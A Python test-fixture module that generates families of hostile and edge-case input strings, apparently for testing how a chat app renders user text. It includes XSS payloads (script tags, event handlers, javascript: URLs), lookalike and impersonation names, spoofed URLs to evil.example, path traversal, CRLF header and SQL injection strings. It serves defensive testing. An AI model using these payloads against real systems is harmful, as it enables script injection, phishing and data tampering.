"""Strings that people could send to run script, to mislead, or to break the page, by families."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator

RUN = "window.hacked=1"
"""What must never be carried out."""
LONG = 4096


def _markup() -> Iterator[str]:
    tags = [
        f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<iframe srcdoc='<script>{RUN}</script>'>",
        f"<details open ontoggle={RUN}>", f"<body onload={RUN}>", f"<video><source onerror={RUN}>",
        f"<input autofocus onfocus={RUN}>", f"<a href='javascript:{RUN}'>x</a>", f"<math><mi xlink:href='javascript:{RUN}'>",
        f"<object data='javascript:{RUN}'>", f"<embed src='data:text/html,<script>{RUN}</script>'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", "<base href='https://evil.example/'>",
        "<link rel=stylesheet href='https://evil.example/x.css'>", "<style>*{display:none}</style>",
        "<form action='https://evil.example'><input name=p></form>", f"<template><script>{RUN}</script></template>",
        f"<noscript><p title='</noscript><script>{RUN}</script>'>", f"<!--><script>{RUN}</script>-->",
        f"<![CDATA[<script>{RUN}</script>]]>", f"<plaintext><script>{RUN}</script>", f"<xmp><script>{RUN}</script></xmp>",
    ]  # fmt: skip
    wrappers: list[Callable[[str], str]] = [
        lambda s: s, str.upper, lambda s: s.replace("<", "&lt;").replace(">", "&gt;"),
        lambda s: f"\"'>{s}", lambda s: s.replace(" ", "/"), lambda s: s.replace("<", "\x00<"),
        lambda s: s.replace("<", "＜").replace(">", "＞"), lambda s: s[:-1],
    ]  # fmt: skip
    for at, tag in enumerate(tags):
        yield tag
        yield wrappers[1 + at % (len(wrappers) - 1)](tag)


def _addresses() -> Iterator[str]:
    yield from (f"{scheme}{RUN}" for scheme in (
        "javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "\x01javascript:", "javascript&colon;",
        "javascript://x/%0a", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4",
        "blob:https://x/", "file:///etc/passwd#", "about:blank#", "view-source:", "intent://x#", "filesystem:",
    ))  # fmt: skip
    yield from (
        "https://petitbleu.example@evil.example/", "https://evil.example\\@petitbleu.example/",
        "https://evil.example#@petitbleu.example", "//evil.example/x", "https:evil.example", "https://2130706433/",
        "https://0x7f.1/", "https://[::ffff:7f00:1]/", "https://xn--80ak6aa92e.com/", "https://раураl.example/",
        "https://example.com%2f@evil.example", "https://evil.example/\u202emoc.elpmaxe//:sptth",
        "http://a.b/?" + "x" * 2000, "mailto:x?bcc=all@evil.example&body=x", "tel:*21*1#", "tg://resolve?domain=x",
    )  # fmt: skip


def _bidi() -> Iterator[str]:
    marks = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    for mark in marks:
        yield f"photo{mark}gpj.exe"
        yield f"{mark}Admin{mark * 40} 5 + 3"
    yield "\u202e" * 2000
    yield "\u2067" * 126 + "deep"
    yield "".join(itertools.islice(itertools.cycle("a\u202eb\u202d"), LONG))


def _combining() -> Iterator[str]:
    for mark in ("\u0300", "\u0489", "\u20dd", "\u0e49", "\u0f71", "\u1ab0", "\u0610", "\ufe20"):
        yield "Z" + mark * 200
    yield "Z" + "\u0301" * 10_000
    yield "".join(f"{one}{chr(0x300 + n % 112) * 60}" for n, one in enumerate("he comes for you"))
    yield "\u0301" * 3000
    yield "ก" + "็" * 4000


def _emoji() -> Iterator[str]:
    yield "😀" * LONG
    yield "👨‍👩‍👧‍👦" * 500
    yield "🇫🇷" * 1000
    yield "🇫" * 1001
    yield "👍🏽" * 1000
    yield "1️⃣" * 900
    yield "🏴" + "".join(chr(0xE0000 + ord(one)) for one in "gbeng" * 200) + "\U000e007f"
    yield "❤︎❤️" * 800
    yield "😀\u200d" * 2000
    yield "\u200d" * 2000 + "😀"


def _invisible() -> Iterator[str]:
    for one in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u115f\u3164\u2800\u180e\u2061\u2062\uffa0":
        yield one * 64
        yield f"Ad{one}min"
    yield " " * 64
    yield "\u00a0" * LONG
    yield "\u3000" * 500


def _long() -> Iterator[str]:
    for one in ("a", "W", "m", "ﷺ", "﷽", "𒐫", "꧅", "⸻", "i", "_", ".", "-", "字", "ก"):
        yield one * LONG
    yield "x" * 200 + " " + "y" * 3000
    yield "-\u2060" * 2000
    yield ("supercalifragilistic" * 200)[:LONG]


def _rtl() -> Iterator[str]:
    for text in (
        "שלום עולם",
        "مرحبا بالعالم",
        "ܫܠܡܐ",
        "ߒߞߏ",
        "سلام 123 + 456 = ?",
        "(שלום) [abc] {مرحبا}",
    ):
        yield text
        yield f"{text} abc {text} 12:34" * 40
    yield "\u202eevil\u202c ✓ verified"


def _controls() -> Iterator[str]:
    for number in (*range(1, 32, 3), 127, 133, 144, 159, 0x2028, 0x2029, 0xFFF9, 0xFFFC, 0xFFFD, 0xFFFE, 0xE000,
                   0x1D173, 0xE0001, 0x10FFFF, 0xFE00, 0xE0100):  # fmt: skip
        yield f"a{chr(number) * 20}b"
    yield "\ud800"
    yield "\udc00\ud800 lone"
    yield "nul\x00nul"
    yield "\x1b[31mred\x1b[0m"


def _lines() -> Iterator[str]:
    for one in ("\n", "\r\n", "\v", "\f", "\x85", "\u2028", "\n\u200b", "\t"):
        yield f"top{one * 1000}bottom"
    yield "a\n" * 2000


def _templates() -> Iterator[str]:
    yield from (
        "{{constructor.constructor('" + RUN + "')()}}", "${" + RUN + "}", "#{" + RUN + "}", "<%= 7*7 %>",
        "{{7*7}}", "[[" + RUN + "]]", "{n, plural, one {x} other {y}}", "{author}", "{name} {names} {title}", "'{'{",
        "}", "%s%n%x", "{0}", "$&$1$`$'", "\\u003cscript\\u003e", "\\", "\\n", "__proto__", "constructor",
        "hasOwnProperty", "toString", "then", "null", "undefined", "NaN", "true", "-1", "0", "[object Object]",
        "javascript", "onerror", '{"_":"updates"}', "]]>", "*/" + RUN + "/*", "';" + RUN + "//", '");' + RUN + '//',
    )  # fmt: skip


def _marks() -> Iterator[str]:
    yield from (
        f"[x](javascript:{RUN})", f"![x](x 'onerror={RUN}')", "**" * 1000, "`" * 3000, "||" * 1500, "~~a" * 900,
        "> " * 1500, "```" + "x\n" * 900, "[" * 3000, "[a](" * 900, "_*~`|" * 700, "# " * 900,
        "[https://petitbleu.example](https://evil.example)", "<https://evil.example>", "@" * 3000, "#a" * 1500,
        "/x" * 1500, "a@" * 2000, "a." * 2000 + "!", "1." * 2000, "http://" * 500, "(" * 3000, "a" * 3000 + "!",
        "\\" * 3000, "https://a.example/" + "(" * 2000,
    )  # fmt: skip


def _names() -> Iterator[str]:
    yield from (
        "Pеtitblеu", "petitbIeu", "ｐｅｔｉｔｂｌｅｕ", "𝐩𝐞𝐭𝐢𝐭𝐛𝐥𝐞𝐮", "ᴘᴇᴛɪᴛʙʟᴇᴜ", "petitbleu\u200b", "ρetitbleu", "✔ Support",
        "Admin ☑️", "You", "Deleted account", "Saved messages", "🛡 Service", "you are signed out", "\u2063Service",
        "../../etc/passwd", "..\\..\\x", "CON.txt", "a.jpg.exe", "a.pdf                     .exe", ".htaccess",
        "x\r\nSet-Cookie: a=b", "%0d%0aLocation:%20//evil", "a;b,c=d", "a\"b'c`d", "<b>.html", "a.svg", "?n=1&r=2#x",
        "-" * 300, "' or 1=1 --", "'; drop table user; --", "🅰🅳🅼🅸🅽", "Ａｄｍｉｎ", "аdmin",
    )  # fmt: skip


def _styles() -> Iterator[str]:
    yield from (
        "\" style=\"position:fixed;inset:0;background:red", "' onmouseover='" + RUN, "</style><style>*{color:red}",
        "expression(" + RUN + ")", "url(javascript:" + RUN + ")", "@import 'https://evil.example'", "};*{display:none}",
        "display:none;", "\" autofocus onfocus=\"" + RUN, "` onerror=`" + RUN,
    )  # fmt: skip


FAMILIES: dict[str, Callable[[], Iterator[str]]] = {
    "markup": _markup, "addresses": _addresses, "bidi": _bidi, "combining": _combining, "emoji": _emoji,
    "invisible": _invisible, "long": _long, "rtl": _rtl, "controls": _controls, "lines": _lines,
    "templates": _templates, "marks": _marks, "names": _names, "styles": _styles,
}  # fmt: skip


def corpus() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(one for family in FAMILIES.values() for one in family()))
